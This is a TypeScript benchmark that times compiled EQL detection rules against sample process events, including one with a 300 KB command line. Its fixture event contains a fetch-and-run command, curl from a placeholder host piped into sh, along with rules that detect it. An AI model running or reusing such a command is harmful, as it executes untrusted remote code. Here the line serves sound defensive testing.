/**
 * Cost of compiled expression-language queries (issue 10's figures): a function-heavy rule and a
 * regex rule on ordinary events, and every string function and regex through compileQuery on an
 * event whose command line is 300 KB (an attacker's). Prints figures; asserts nothing (timings
 * depend on the machine).
 *
 *   node_modules/.bin/tsx test/bench/expressions.ts
 */
import { compileQuery } from "../../src/eql/index.ts";

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

/** Median ns per call over `rounds` rounds of `n` calls. */
function time(f: () => unknown, n: number, rounds = 7): number {
  const per: number[] = [];
  for (let r = 0; r < rounds; r++) {
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < n; i++) f();
    per.push(Number(process.hrtime.bigint() - t0) / n);
  }
  return median(per);
}

const event = (commandLine: string): unknown => ({
  "@timestamp": "2024-05-01T12:00:00Z",
  event: { category: ["process"], type: ["start"] },
  host: { os: { type: "linux" } },
  process: {
    name: "bash",
    pid: 4242,
    args_count: 3,
    executable: "/usr/bin/bash",
    command_line: commandLine,
    parent: { name: "sshd", executable: "/usr/sbin/sshd" },
  },
  source: { ip: "10.1.2.3" },
});

const ordinary = event("bash -c 'curl -s http://example.test/x | sh'");
const big = event(`${"A".repeat(150_000)} curl ${"b".repeat(150_000)} localgroup`);

const FUNCTION_RULE = `process where host.os.type == "linux" and event.type == "start" and
  startsWith~(process.executable, "/USR/BIN/") and stringContains(process.command_line, "curl") and
  length(process.command_line) > 10 and not cidrMatch(source.ip, "192.168.0.0/16") and
  substring(process.name, 0, 2) == "ba" and process.args_count + 1 > 2`;
const REGEX_RULE = `process where host.os.type == "linux" and
  process.command_line regex~ """.*curl[ ]+-[a-z]*s.*""" and process.name regex "(ba|z|da)sh"`;

console.log("per-event cost of compiled queries (median ns)");
for (const [name, text] of [
  ["function-heavy rule", FUNCTION_RULE],
  ["regex rule", REGEX_RULE],
] as const) {
  const q = compileQuery(text);
  const tCompile = time(() => compileQuery(text), 200, 3);
  const matched = q.matches(ordinary);
  console.log(
    `  ${name.padEnd(22)} compile ${(tCompile / 1e6).toFixed(3)} ms; eval ${time(() => q.matches(ordinary), 20_000).toFixed(0)} ns (matches: ${matched})`,
  );
}

console.log("a 300 KB command line through every string function and regex (median µs per event)");
for (const cond of [
  'stringContains(process.command_line, "localgroup")',
  'stringContains~(process.command_line, "LOCALGROUP")',
  'startsWith~(process.command_line, "aaa")',
  'endsWith(process.command_line, "localgroup")',
  "length(process.command_line) > 300000",
  'indexOf~(process.command_line, "CURL") > 0',
  'between(process.command_line, "curl", "local") != ""',
  'substring(process.command_line, -10) == "localgroup"',
  'concat(process.command_line, "x") != null',
  'string(process.command_line) : "*LOCALGROUP"',
  'process.command_line regex ".*curl.*localgroup"',
  'process.command_line regex~ ".*CURL[ ]+B+.*"',
  'process.command_line like~ "*a*a*a*a*a*a*a*a*b*"',
]) {
  const q = compileQuery(`process where ${cond}`);
  const us = time(() => q.matches(big), 20, 5) / 1000;
  console.log(`  ${cond.padEnd(58)} ${us.toFixed(1).padStart(8)} µs  (${q.matches(big)})`);
}
